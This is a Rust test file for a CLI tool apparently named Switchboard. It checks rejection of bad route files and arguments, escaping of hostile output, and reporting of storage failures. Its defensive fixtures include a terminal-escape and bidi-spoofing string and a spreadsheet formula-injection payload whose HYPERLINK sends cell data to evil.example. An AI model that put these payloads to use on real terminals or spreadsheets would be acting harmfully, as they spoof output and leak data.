//! Input the CLI refuses and output it keeps inert: route files that would hang or wipe the
//! configuration (D15), arguments that would be sent wrong (D19), terminal escapes and
//! spreadsheet formulas from users and upstreams (D17), and storage failures that name the
//! file and what to do (D16).

// Test code: a panic with its message is the failure report, in helpers as in tests.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::process::Output;

use serde_json::Value;
use switchboard_tests::{FakeUpstream, Reply};

use crate::harness::{Cli, KEY, cli};

const ROUTING: &str = r#"
[[routes]]
name = "code"
[[routes.targets]]
provider = "openrouter"
model = "first/model"

[routes.failover]
mode = "delayed"

[[rules]]
name = "code questions"
when = { task = ["code"] }
then = { route = "code" }
"#;

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn import(cli: &Cli, name: &str, text: &str, extra: &[&str]) -> Output {
    let file = cli.data.path().join(name);
    std::fs::write(&file, text).unwrap();
    let mut args = vec!["route", "import"];
    args.extend_from_slice(extra);
    args.push(file.to_str().unwrap());
    cli.run(&args, None)
}

fn exported(cli: &Cli) -> String {
    stdout(&cli.run(&["route", "export", "-"], None))
}

#[test]
fn an_empty_route_file_replaces_nothing_unless_asked_to() {
    let fake = FakeUpstream::start(KEY);
    let cli = cli(&fake);
    assert!(import(&cli, "routing.toml", ROUTING, &[]).status.success());

    for blank in ["", "\n  \n", "# every route was here\n# and now none\n"] {
        let out = import(&cli, "empty.toml", blank, &[]);
        assert_eq!(out.status.code(), Some(1), "{blank:?}");
        let err = stderr(&out);
        assert!(
            err.contains("empty.toml: the file holds no routes"),
            "{err}"
        );
        assert!(err.contains("Nothing was changed"), "{err}");
        assert!(err.contains("--replace-with-empty"), "{err}");
        assert!(
            exported(&cli).contains("name = \"code questions\""),
            "the configuration is still there after {blank:?}"
        );
    }

    let out = import(
        &cli,
        "empty.toml",
        "# start over\n",
        &["--replace-with-empty"],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "imported 0 route(s), 0 rule(s), 0 limit(s)\n");
    assert!(!exported(&cli).contains("[[routes]]"), "now it is empty");
}

#[test]
fn route_files_that_would_hang_or_stall_are_refused_naming_the_line() {
    let fake = FakeUpstream::start(KEY);
    let cli = cli(&fake);
    assert!(import(&cli, "routing.toml", ROUTING, &[]).status.success());

    let hang = ROUTING.replace(
        "mode = \"delayed\"",
        "mode = \"delayed\"\nwait_ms = 4294967295",
    );
    let out = import(&cli, "hang.toml", &hang, &[]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(err.contains("hang.toml: line 2: "), "{err}");
    assert!(
        err.contains("failover.wait_ms 4294967295 is above 600000"),
        "{err}"
    );

    let retries = ROUTING.replace(
        "mode = \"delayed\"",
        "mode = \"delayed\"\nretries_per_target = 4294967295\nmax_attempts = 4294967295",
    );
    let out = import(&cli, "retries.toml", &retries, &[]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("line 2: "), "{}", stderr(&out));

    let never = format!("{ROUTING}\n[[limits]]\nprovider = \"openrouter\"\nrpm = 0\n");
    let out = import(&cli, "never.toml", &never, &[]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(err.contains("line 16: "), "{err}");
    assert!(err.contains("rpm = 0 would refuse every request"), "{err}");

    let huge = format!("{ROUTING}{}", "#".repeat(1 << 20));
    let out = import(&cli, "huge.toml", &huge, &[]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("a routing file is at most 1048576 bytes (1 MiB)"),
        "{}",
        stderr(&out)
    );

    let long = ROUTING.replace(
        "name = \"code\"",
        &format!("name = \"{}\"", "r".repeat(201)),
    );
    let long = long.replace(
        "route = \"code\"",
        &format!("route = \"{}\"", "r".repeat(201)),
    );
    let out = import(&cli, "long.toml", &long, &[]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("line 2: route 1's name is 201 characters long"),
        "{}",
        stderr(&out)
    );

    assert_eq!(
        exported(&cli).matches("[[routes]]").count(),
        1,
        "nothing refused was imported"
    );
}

#[test]
fn chat_arguments_that_would_be_sent_wrong_are_refused() {
    let fake = FakeUpstream::start(KEY);
    let cli = cli(&fake);
    for t in ["NaN", "inf", "-inf", "2.5"] {
        let arg = format!("--temperature={t}");
        let out = cli.run(&["chat", "--model", "m", &arg, "hi"], None);
        assert_eq!(out.status.code(), Some(2), "--temperature {t}");
        assert!(
            stderr(&out).contains("the temperature is a number from 0 to 2"),
            "{}",
            stderr(&out)
        );
    }
    let out = cli.run(&["chat", "--model", "", "hi"], None);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("the model id is empty"),
        "{}",
        stderr(&out)
    );
    assert!(fake.requests().is_empty(), "nothing was sent");

    let ok = cli.run(
        &["chat", "--model", "m", "--temperature", "0.7", "hi"],
        None,
    );
    assert!(ok.status.success(), "{}", stderr(&ok));
}

#[test]
fn names_past_two_hundred_characters_and_limits_that_round_to_zero_are_refused() {
    let fake = FakeUpstream::start(KEY);
    let cli = cli(&fake);
    let long = "n".repeat(201);
    let out = cli.run(&["budget", "set", "--name", &long, "--limit", "1"], None);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("the name is 201 characters long; at most 200 are allowed"),
        "{}",
        stderr(&out)
    );
    let out = cli.run(&["providers", "add", &long, &fake.custom_base()], None);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("201 characters"), "{}", stderr(&out));
    let out = cli.run(
        &["providers", "add", "ev\u{1b}[31mil", &fake.custom_base()],
        None,
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("control character U+001B"),
        "{}",
        stderr(&out)
    );

    let out = cli.run(
        &[
            "budget",
            "set",
            "--name",
            "tiny",
            "--limit",
            "0.0000000000001",
        ],
        None,
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("0.0000000000001 is not 0 but rounds to $0"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        cli.json(&["budget", "list", "--json"]),
        serde_json::json!([])
    );

    let out = cli.run(&["budget", "set", "--name", "stop", "--limit", "0"], None);
    assert!(
        out.status.success(),
        "a limit of exactly 0 is a choice: {}",
        stderr(&out)
    );
}

#[test]
fn upstream_text_cannot_drive_the_terminal_but_json_keeps_it_exact() {
    let fake = FakeUpstream::start(KEY);
    let cli = cli(&fake);
    let hostile = "bad \u{1b}]0;pwned\u{7}\u{1b}[2J\u{202e}txt.exe";
    let body = serde_json::json!({ "error": { "code": 400, "message": hostile } }).to_string();
    let reply = || Reply::Status {
        status: 400,
        retry_after: None,
        body: Some(body.clone()),
    };

    fake.enqueue(reply());
    let out = cli.run(&["chat", "--model", "m", "hi"], None);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(
        err.contains("bad \\x1b]0;pwned\\x07\\x1b[2J\\u{202e}txt.exe"),
        "{err}"
    );
    assert!(
        !out.stderr.contains(&0x1b) && !err.contains('\u{202e}'),
        "no raw escape or bidi control reaches the terminal: {err:?}"
    );

    fake.enqueue(reply());
    let out = cli.run(&["chat", "--json", "--model", "m", "hi"], None);
    let record: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        record["error"]["message"]
            .as_str()
            .unwrap()
            .contains(hostile),
        "JSON carries the text exactly (JSON escapes it): {record}"
    );
}

#[test]
fn spend_csv_cells_cannot_carry_a_formula() {
    let fake = FakeUpstream::start(KEY);
    let cli = cli(&fake);
    let formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
    let out = cli.run(&["chat", "--model", formula, "hi"], None);
    assert!(out.status.success(), "{}", stderr(&out));
    let csv = stdout(&cli.run(&["spend", "--by", "model", "--csv"], None));
    assert!(
        csv.contains("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"click\"\")\""),
        "{csv}"
    );
    assert!(!csv.contains(",\"=HYPERLINK"), "{csv}");
    let json = cli.json(&["spend", "--by", "model", "--json"]);
    assert_eq!(json["rows"][0]["key"], formula, "JSON stays exact");
}

#[test]
fn a_damaged_database_is_named_with_what_to_do() {
    let fake = FakeUpstream::start(KEY);
    let cli = cli(&fake);
    let db = cli.data.path().join("switchboard.db");
    let garbage: Vec<u8> = (0..32_768_u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    std::fs::write(&db, &garbage).unwrap();

    let out = cli.run(&["info"], None);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    let path = db.display().to_string();
    assert!(
        err.starts_with(&format!("switchboard: {path} is damaged (")),
        "{err}"
    );
    assert!(err.contains("Switchboard left it as it is"), "{err}");
    assert!(
        err.contains(&format!("move {path} and its -wal and -shm files aside")),
        "{err}"
    );

    let out = cli.run(&["spend", "--json"], None);
    let printed: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(printed["error"]["code"], "storage");
    assert_eq!(
        std::fs::read(&db).unwrap(),
        garbage,
        "the file is left as it was"
    );
}

#[cfg(unix)]
mod unix {
    use std::os::unix::fs::PermissionsExt;
    use std::path::Path;

    use super::*;

    fn chmod(path: &Path, mode: u32) {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
    }

    fn mode(path: &Path) -> u32 {
        std::fs::metadata(path).unwrap().permissions().mode() & 0o777
    }

    /// Whether this process is held to file modes. Root is not (it writes into a 0500
    /// directory), so the read-only test cannot run as root and is skipped there.
    fn modes_are_enforced() -> bool {
        let dir = tempfile::tempdir().unwrap();
        chmod(dir.path(), 0o500);
        let enforced = std::fs::write(dir.path().join("probe"), b"").is_err();
        chmod(dir.path(), 0o700);
        enforced
    }

    #[test]
    fn the_data_directory_and_database_are_private() {
        let fake = FakeUpstream::start(KEY);
        let cli = cli(&fake);
        chmod(cli.data.path(), 0o755);
        assert!(
            cli.run(&["chat", "--model", "m", "hi"], None)
                .status
                .success()
        );
        let db = cli.data.path().join("switchboard.db");
        chmod(&db, 0o644);
        assert!(cli.run(&["info"], None).status.success());
        assert_eq!(mode(cli.data.path()), 0o700);
        assert_eq!(mode(&db), 0o600);
    }

    #[test]
    fn a_read_only_data_directory_still_reports_and_a_write_names_the_path() {
        if !modes_are_enforced() {
            eprintln!("skipped: this process ignores file modes (root), so 0500 is not read-only");
            return;
        }
        let fake = FakeUpstream::start(KEY);
        let cli = cli(&fake);
        assert!(
            cli.run(&["chat", "--model", "m", "hi"], None)
                .status
                .success()
        );
        assert!(import(&cli, "routing.toml", ROUTING, &[]).status.success());
        std::fs::remove_file(cli.data.path().join("routing.toml")).unwrap();
        chmod(cli.data.path(), 0o500);
        let _writable_again = Writable(cli.data.path().to_owned());

        let spend = cli.json(&["spend", "--json"]);
        assert_eq!(spend["rows"][0]["requests"], 1, "{spend}");
        cli.json(&["info", "--json"]);
        assert!(exported(&cli).contains("name = \"code questions\""));

        let out = cli.run(&["budget", "set", "--name", "b", "--limit", "1"], None);
        assert_eq!(out.status.code(), Some(1));
        let err = stderr(&out);
        let db = cli.data.path().join("switchboard.db");
        assert!(
            err.contains(&format!("Switchboard cannot write to {}", db.display())),
            "{err}"
        );
        assert!(
            err.contains(&format!(
                "Fix the permissions on {}",
                cli.data.path().display()
            )),
            "{err}"
        );
    }

    /// Makes a directory writable again when dropped, so the temporary directory can be
    /// removed even when the test fails.
    struct Writable(std::path::PathBuf);

    impl Drop for Writable {
        fn drop(&mut self) {
            let _ = std::fs::set_permissions(&self.0, std::fs::Permissions::from_mode(0o700));
        }
    }
}
